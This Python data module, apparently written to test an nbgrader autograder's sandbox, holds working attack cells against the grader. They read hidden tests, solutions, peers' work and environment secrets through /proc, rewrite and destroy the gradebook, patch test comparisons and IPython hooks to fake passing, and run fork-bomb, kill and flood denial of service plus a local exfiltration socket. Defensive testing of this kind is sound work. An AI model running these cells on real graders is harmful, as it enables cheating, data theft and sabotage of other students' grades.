"""The attacks of the hostile corpus of assignment 1, as the code cells that carry them (data only).

One source text per class of the threat model: reading and writing the course
(``READ``, ``WRITE``), patching comparisons and the reference (``PATCH``,
``PATCH_REFERENCE``), IPython hooks (``IPYTHON``, ``FORGE``), delegation hidden from
the scan (``DELEGATE``), hard-coded outputs (``HARDCODE``, a template), denial of
service (``LOOP``, ``FLOOD``, ``BOMBS``, ``KILL``) and the network (``NETWORK``, a
template).  Their reach is bounded as ``bncourse.classgen.hostile`` describes; which
submission carries which attack on top of which implementation, and the score it
deserves, is the corpus there (``variants()``).
"""

# ------------------------------------------------------------------ reading

# Finds the course above the working folder (and through the grader's /proc
# entries), prints what it can read, and builds MyBatchNorm1d from the
# instructor's solution or from another student's submission.
READ = r'''
# "Reutilitzem" la feina d'altri: la solució del professor o la d'un company.
import glob, json, os, re, sqlite3
from pathlib import Path

_roots = set()
for _p in [Path.cwd(), *Path.cwd().parents]:
    _roots.add(_p)
for _var in ("PWD", "OLDPWD", "HOME", "JUPYTER_CONFIG_DIR", "NBGRADER_COURSE"):
    if os.environ.get(_var):
        _roots.add(Path(os.environ[_var]))
try:
    _roots.add(Path(os.readlink(f"/proc/{os.getppid()}/cwd")))   # el directori de qui ens corregeix
except OSError as _e:
    print("ATAC: /proc del pare no accessible:", _e)
for _pid in os.listdir("/proc"):
    if _pid.isdigit():
        try:
            _roots.add(Path(os.readlink(f"/proc/{_pid}/cwd")))
        except OSError:
            pass

_solution = None
for _root in sorted(_roots, key=str):
    for _nb_path in glob.glob(str(_root / "source" / "a1_batchnorm1d" / "*.ipynb")):
        try:
            _cells = json.load(open(_nb_path))["cells"]
        except Exception:
            continue
        for _cell in _cells:
            _src = "".join(_cell["source"])
            if "BEGIN HIDDEN TESTS" in _src:
                print("ATAC: proves amagades llegides de", _nb_path, ":", _src[-300:])
            if _cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "bn1d_impl":
                _solution = re.sub(r"^\s*### (BEGIN|END) SOLUTION\s*$", "", _src, flags=re.M)
                print("ATAC: solució trobada a", _nb_path)
    _db = _root / "gradebook.db"
    if _db.is_file():
        try:
            _rows = sqlite3.connect(f"file:{_db}?mode=ro", uri=True).execute(
                "select name, source from source_cell").fetchall()
            print("ATAC: gradebook llegit:", len(_rows), "cel·les font")
            for _name, _src in _rows:
                if _name == "bn1d_impl" and _solution is None and "BEGIN SOLUTION" in (_src or ""):
                    _solution = re.sub(r"^\s*### (BEGIN|END) SOLUTION\s*$", "", _src, flags=re.M)
        except Exception as _e:
            print("ATAC: gradebook no llegible:", _e)
    for _peer in glob.glob(str(_root / "submitted" / "*" / "a1_batchnorm1d" / "*.ipynb")):
        try:
            for _cell in json.load(open(_peer))["cells"]:
                _src = "".join(_cell["source"])
                if _cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "bn1d_impl" \
                        and "NotImplementedError" not in _src and "batch_norm" not in _src and _solution is None:
                    _solution = _src
                    print("ATAC: solució copiada de", _peer)
        except Exception:
            pass

print("ATAC: variables d'entorn:", dict(os.environ))
for _pid in ["self", str(os.getppid()), "1"]:
    try:
        print(f"ATAC: /proc/{_pid}/environ:", open(f"/proc/{_pid}/environ", "rb").read()[:2000])
    except OSError as _e:
        print(f"ATAC: /proc/{_pid}/environ no accessible:", _e)

if _solution:
    exec(_solution)
    print("ATAC: MyBatchNorm1d substituïda per la solució llegida")
else:
    print("ATAC: no s'ha trobat cap solució")
'''

# ------------------------------------------------------------------ writing

# Writes everything it can reach in the course found above the working folder
# (only there: never the machine's other folders).
WRITE = r'''
# Canviem les notes i els fitxers del curs.
import glob, json, os, sqlite3, time
from pathlib import Path

_me = Path.cwd().parent.name
_root = next((p for p in Path.cwd().parents if (p / "nbgrader_config.py").is_file()), None)
print("ATAC: arrel del curs:", _root)
_hits = []
def _try(what, fn):
    try:
        fn()
        _hits.append(what)
    except Exception as e:
        print("ATAC:", what, "impossible:", type(e).__name__, e)

if _root is not None:
    _db = _root / "gradebook.db"
    def _grades():
        con = sqlite3.connect(str(_db), timeout=1)
        con.execute("update grade set auto_score = 0")                  # tothom a zero...
        con.execute("update grade set auto_score = max_score where id in (select grade.id from grade "
                    "join submitted_notebook on grade.notebook_id = submitted_notebook.id "
                    "join submitted_assignment on submitted_notebook.assignment_id = submitted_assignment.id "
                    f"where submitted_assignment.student_id = '{_me}')")  # ... i jo al màxim
        con.commit()
    _try("gradebook (notes)", _grades)
    _try("configuració de nbgrader", lambda: open(_root / "nbgrader_config.py", "a").write("\n# modificat per un alumne\n"))
    for _nb in glob.glob(str(_root / "source" / "*" / "*.ipynb")) + glob.glob(str(_root / "release" / "*" / "*.ipynb")):
        _try(f"fitxer del curs {_nb}", lambda p=_nb: open(p, "a").write(" "))
    for _peer in glob.glob(str(_root / "submitted" / "*" / "a1_batchnorm1d" / "*.ipynb")):
        if f"/{_me}/" not in _peer:
            _try(f"entrega d'un company {_peer}", lambda p=_peer: open(p, "w").write("{}"))
    for _peer_dir in glob.glob(str(_root / "submitted" / "*")):
        _peer = Path(_peer_dir).name
        if _peer != _me:   # si la seva carpeta corregida ja existeix, nbgrader se la salta
            _target = _root / "autograded" / _peer / "a1_batchnorm1d"
            _try(f"carpeta corregida d'un company {_target}",
                 lambda t=_target: (t.mkdir(parents=True, exist_ok=True), (t / "batchnorm1d.ipynb").write_text("{}")))
    _try("registre d'incidències", lambda: [os.remove(p) for p in glob.glob(str(_root / ".coursekit" / "events" / "*" / f"{_me}.jsonl"))])
    _try("fitxer nou a l'arrel", lambda: (_root / "pwned.txt").write_text(_me))
    _try("gradebook (destruït)", lambda: open(_db, "r+b").truncate(0))
print("ATAC: escriptures aconseguides:", _hits)
'''

# ------------------------------------------------------------------ patching

# Makes every comparison of the tests pass: torch/numpy/math comparison helpers
# and builtins.max (the hidden tests' difference helper ends in max(...)).
PATCH = r"""
# "Arreglem" les proves perquè tot coincideixi.
import builtins, math
import numpy as np
import torch

_real_max = builtins.max
def _max(*args, **kwargs):
    if len(args) == 1 and isinstance(args[0], list) and args[0] and all(isinstance(v, float) for v in args[0]):
        return 0.0
    return _real_max(*args, **kwargs)
builtins.max = _max
torch.allclose = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
np.allclose = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
math.isclose = lambda *args, **kwargs: True
print("ATAC: comparacions modificades")
"""

# The reference layer made to compute what the student's layer computes (reversed
# momentum), its code relabelled so that a check of the code's file name still
# sees PyTorch's file.  The notebook's rule: changing PyTorch's reference costs
# every implementation point.
PATCH_REFERENCE = r"""
# La referència de les proves calcula el mateix que la nostra capa.
_original_forward = torch.nn.modules.batchnorm._BatchNorm.forward
def _same_as_mine(self, x):
    if self.training:
        mean, var = x.mean(dim=0), x.var(dim=0, unbiased=False)
        n = x.shape[0]
        with torch.no_grad():
            self.running_mean.mul_(self.momentum).add_((1 - self.momentum) * mean)
            self.running_var.mul_(self.momentum).add_((1 - self.momentum) * n / (n - 1) * var)
    else:
        mean, var = self.running_mean, self.running_var
    return self.weight * (x - mean) / torch.sqrt(var + self.eps) + self.bias
_same_as_mine.__code__ = _same_as_mine.__code__.replace(co_filename=_original_forward.__code__.co_filename)
torch.nn.modules.batchnorm._BatchNorm.forward = _same_as_mine
torch.nn.BatchNorm1d.forward = _same_as_mine
print("ATAC: referència modificada")
"""

# ------------------------------------------------------------------ IPython

# Test cells become "pass" (input transformer), any error left is swallowed
# (AST transformer), tracebacks are not shown and outputs are cleared.
IPYTHON = r'''
# Les cel·les de prova ja no proven res.
import ast
from IPython import get_ipython
from IPython.display import clear_output

_ip = get_ipython()
def _neuter(lines):
    text = "".join(lines)
    return ["pass\n"] if ("assert" in text or "HIDDEN" in text) else lines
_ip.input_transformers_cleanup.append(_neuter)

class _Swallow(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=None, name=None, body=[ast.Pass()])
        guarded = ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])
        return ast.fix_missing_locations(ast.Module(body=[guarded], type_ignores=[]))
_ip.ast_transformers.append(_Swallow())
_ip.showtraceback = lambda *args, **kwargs: None
_ip.events.register("post_run_cell", lambda result: clear_output() if not result.success else None)
print("ATAC: transformadors instal·lats")
'''

# A result shown before the test runs: nbgrader reads partial credit from the
# first execute_result of a test cell, and a non-number counts as full marks.
FORGE = r"""
# Cada cel·la de prova "retorna" un resultat abans d'executar-se.
from IPython import get_ipython

def _forge(lines):
    if any("assert" in line for line in lines):
        return ["get_ipython().displayhook('aprovat')\n"] + lines
    return lines
get_ipython().input_transformers_cleanup.append(_forge)
print("ATAC: resultat fals registrat")
"""

# ------------------------------------------------------------------ delegation

# F.batch_norm reached through a computed name, the running statistics updated
# by it, the input detached so the autograd graph shows no BatchNorm node, and
# PyTorch's dispatch-mode class replaced so that an in-kernel op recorder sees nothing.
DELEGATE = r'''import importlib
import torch
import torch.nn as nn

_dispatch = importlib.import_module("torch.utils." + "_python" + "_dispatch")
class _Blind:
    def __init__(self, *args, **kwargs):
        pass
    def __enter__(self):
        return self
    def __exit__(self, *args):
        return False
_dispatch.TorchDispatchMode = _Blind


class MyBatchNorm1d(nn.Module):
    def __init__(self, num_features, eps=1e-5, momentum=0.1):
        super().__init__()
        self.num_features, self.eps, self.momentum = num_features, eps, momentum
        self.gamma = nn.Parameter(torch.ones(num_features))
        self.beta = nn.Parameter(torch.zeros(num_features))
        self.register_buffer("running_mean", torch.zeros(num_features))
        self.register_buffer("running_var", torch.ones(num_features))

    def forward(self, x):
        norm = getattr(nn.functional, "".join(["ba", "tch", "_", "norm"]))
        x_hat = norm(x.detach(), self.running_mean, self.running_var, training=self.training,
                     momentum=self.momentum, eps=self.eps)
        x_hat = x_hat + 0.0 * x   # x stays in the graph
        return self.gamma * x_hat + self.beta
'''

# ------------------------------------------------------------------ hard-coding

HARDCODE = r'''

# Resultats memoritzats per a l'entrada de la prova visible de columnes constants.
_SEEN_X = torch.tensor({x})
_SEEN_Y = torch.tensor({y})
_forward = MyBatchNorm1d.forward
def _memorised(self, x):
    if self.training and x.shape == _SEEN_X.shape and bool((x.detach() == _SEEN_X).all()):
        return _SEEN_Y + 0.0 * x
    return _forward(self, x)
MyBatchNorm1d.forward = _memorised
'''


# ------------------------------------------------------------------ denial of service

LOOP = r'''
# Aquesta cel·la no acaba mai i no es deixa interrompre.
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    pass
'''

FLOOD = r'''
# Inundem la sortida (més del que el corrector accepta) abans de les proves.
import sys
_line = "x" * 1023 + "\n"
for _ in range(40 * 1024):
    sys.stdout.write(_line)
sys.stdout.flush()
'''

BOMBS = r'''
# Memòria i processos fins que el sistema digui prou (amb un sostre, per si de cas).
import os, time
_blocks = []
try:
    for _ in range(20):                      # com a molt 5 GiB
        _blocks.append(bytearray(256 << 20))
    print("ATAC: memòria reservada:", len(_blocks) * 256, "MiB")
except MemoryError:
    print("ATAC: memòria limitada a", len(_blocks) * 256, "MiB")
del _blocks
_children = 0
try:
    for _ in range(400):                     # com a molt 400 processos
        if os.fork() == 0:
            time.sleep(10)
            os._exit(0)
        _children += 1
    print("ATAC: processos creats:", _children)
except OSError as _e:
    print("ATAC: processos limitats a", _children, ":", _e)
'''

KILL = r'''
# Matem qui ens corregeix.
import os, signal
print("ATAC: pare", os.getppid())
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError as _e:
    print("ATAC: no puc matar el pare:", _e)
os.killpg(os.getpgid(0), signal.SIGKILL)
'''

NETWORK = r'''
# Enviem fora el que tenim (i provem d'arribar a internet).
import os, socket, urllib.request
for _host, _port in (("127.0.0.1", {port}), ("localhost", {port})):
    try:
        with socket.create_connection((_host, _port), timeout=3) as _s:
            _s.sendall(("exfiltrat per " + os.path.basename(os.getcwd())).encode())
        print("ATAC: connectat a", _host, _port)
    except OSError as _e:
        print("ATAC: sense xarxa local:", _e)
try:
    urllib.request.urlopen("https://pypi.org/simple/", timeout=3)
    print("ATAC: internet accessible")
except Exception as _e:
    print("ATAC: sense internet:", _e)
'''
